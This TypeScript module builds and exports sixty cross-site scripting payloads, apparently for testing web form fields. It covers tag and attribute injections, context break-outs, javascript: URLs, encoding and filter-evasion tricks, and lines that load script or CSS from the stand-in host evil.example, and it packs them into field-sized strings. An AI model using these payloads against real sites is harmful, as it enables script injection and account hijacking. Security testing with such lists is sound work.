/**
 * Script payloads: tags, attributes, URLs, and ways to break out of each context that shows text.
 */
const CALL = "alert(document.domain)";

const tags = [
	"script",
	"img src=x onerror",
	"svg onload",
	"body onload",
	"iframe srcdoc",
	"details open ontoggle",
	"video src=x onerror",
	"input autofocus onfocus",
	"marquee onstart",
	"object data",
	"embed src",
	"math href",
];
const opened = tags.map((tag) =>
	tag.includes("=") || tag.includes(" on")
		? `<${tag}=${CALL}>`
		: tag === "script"
			? `<script>${CALL}</script>`
			: `<${tag}="javascript:${CALL}">x</${tag.split(" ")[0]}>`,
);
const ways = [
	'"',
	"'",
	"`",
	'">',
	"'>",
	"</title>",
	"</textarea>",
	"</script>",
	"</style>",
	"-->",
	"]]>",
	"</option></select>",
];
const brokenOut = ways.map((way) => `${way}<img src=x onerror=${CALL}>`);
const attributes = [
	`" onmouseover="${CALL}`,
	`' autofocus onfocus='${CALL}`,
	`" style="animation:x" onanimationstart="${CALL}`,
	`x" onerror="${CALL}" src="x`,
	`\` onload=\`${CALL}`,
];
const addresses = [
	`javascript:${CALL}`,
	`JaVaScRiPt:${CALL}`,
	`java\tscript:${CALL}`,
	`data:text/html,<script>${CALL}</script>`,
	`vbscript:${CALL}`,
	`//evil.example/x.js`,
	`https://evil.example/${CALL}`,
];
const code = [
	`";${CALL};//`,
	`';${CALL};//`,
	`\\";${CALL};//`,
	`\${${CALL}}`,
	`{{constructor.constructor('${CALL}')()}}`,
	`{{7*7}}`,
	`</script><script>${CALL}</script>`,
	`\u2028${CALL}\u2028`,
	`*/${CALL}/*`,
	`<!--<script>${CALL}`,
];
const written = [
	`[x](javascript:${CALL})`,
	`![x](x" onerror="${CALL})`,
	`<a href="javascript:${CALL}">x</a>`,
	`&lt;script&gt;${CALL}&lt;/script&gt;`,
	`&#60;script&#62;${CALL}`,
	`%3Cscript%3E${CALL}%3C/script%3E`,
];
const others = [
	`<base href="https://evil.example/">`,
	`<meta http-equiv="refresh" content="0;url=javascript:${CALL}">`,
	`<link rel="stylesheet" href="https://evil.example/x.css">`,
	`<form action="javascript:${CALL}"><button>x</button></form>`,
	`<style>@import 'https://evil.example/x.css'</style>`,
	`<script src="https://evil.example/x.js"></script>`,
	`<scr<script>ipt>${CALL}</script>`,
	`<img src="x" ONERROR=${CALL} a='`,
];

/** Sixty payloads. */
export const PAYLOADS: readonly string[] = [
	...opened,
	...brokenOut,
	...attributes,
	...addresses,
	...code,
	...written,
	...others,
];

const inText = PAYLOADS.filter((payload) => !addresses.includes(payload));
const part = Math.ceil(inText.length / addresses.length);

/**
 * Joins payloads into one text. The text begins with a URL payload, because URL payloads act only at the
 * beginning. All others act in the middle as well, because what comes before them either has no effect or is
 * itself detected. Payloads that open a comment come last, because they hide what follows.
 */
const joined = (address: string, others: readonly string[]): string =>
	[
		address,
		...others.filter((payload) => !payload.startsWith("<!--")),
		...others.filter((payload) => payload.startsWith("<!--")),
	].join(" ");

/**
 * Strings that each contain some of the payloads, short enough for most form fields. Together, they contain
 * all sixty.
 */
export const PARTS: readonly string[] = addresses.map((address, i) =>
	joined(address, inText.slice(i * part, (i + 1) * part)),
);

/**
 * Strings with different beginnings, for places that show only the beginning. Each contains every
 * payload that acts in the middle.
 */
export const FULL_PAYLOADS: readonly string[] = addresses.map((address, i) =>
	joined(address, [...inText.slice(i * part), ...inText.slice(0, i * part)]),
);
